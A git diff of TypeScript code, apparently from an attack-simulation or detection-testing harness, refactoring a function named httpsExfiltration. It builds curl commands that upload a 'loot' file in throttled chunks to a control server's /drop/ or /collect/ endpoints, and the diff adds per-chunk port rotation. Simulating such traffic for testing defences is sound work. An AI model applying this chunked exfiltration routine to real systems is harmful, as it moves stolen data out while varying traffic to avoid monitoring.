@@ -1,8 +1,8 @@
-import type { Attack, AttackOrder, Intensity } from '../contracts.ts';
+import type { Attack, Intensity } from '../contracts.ts';
 import { authorityFile } from '../services/authority.ts';
 import { place } from '../services/daemon.ts';
 import { controlName, controlPorts, startControl } from './control-server.ts';
-import { ask, curl, curlPorts, keepDoing, portsFor, questionsOf } from './errands.ts';
+import { ask, curl, curlPorts, inParts, portsFor, questionsOf } from './errands.ts';
 
 type Plan = { readonly parts: number; readonly bytes: number; readonly rate: string };
 
@@ -37,7 +37,6 @@ function httpsExfiltration({ kind, summary, actor: actorName, target: targetName
       const ports = portsFor();
       const words = [
         '--http1.1',
-        ...curlPorts(ports),
         '--limit-rate',
         rate,
         '--cacert',
@@ -46,12 +45,13 @@ function httpsExfiltration({ kind, summary, actor: actorName, target: targetName
         `${name}:${controlPorts.https}:${target.address}`,
       ];
       await ask(actor, name, 'A', signal);
-      await sendParts(order, parts, index => {
+      await inParts(order, parts, index => {
         const where =
           targetName === 'control'
             ? ['-T', loot, `https://${name}/drop/${index}.bin`]
             : ['-H', 'Expect:', '--data-binary', `@${loot}`, `https://${name}/collect/${index}`];
-        return curl(actor, [...words, ...where], { signal, seconds });
+        // Another port each time, as systems give them.
+        return curl(actor, [...curlPorts(ports.slice(index)), ...words, ...where], { signal, seconds });
       });
       return {
         tool: 'curl',
@@ -69,17 +69,6 @@ function httpsExfiltration({ kind, summary, actor: actorName, target: targetName
       };
     },
   };
-}
-
-/** Spread over the time there is; the last may take as long as the others. */
-async function sendParts(
-  order: AttackOrder,
-  parts: number,
-  send: (index: number) => Promise<boolean>,
-): Promise<void> {
-  await keepDoing(order, { periodSeconds: order.seconds / parts, jitter: 0.2 }, async index => {
-    if (index < parts) await send(index);
-  });
 }
 
 export const exfiltrationToControl = httpsExfiltration({
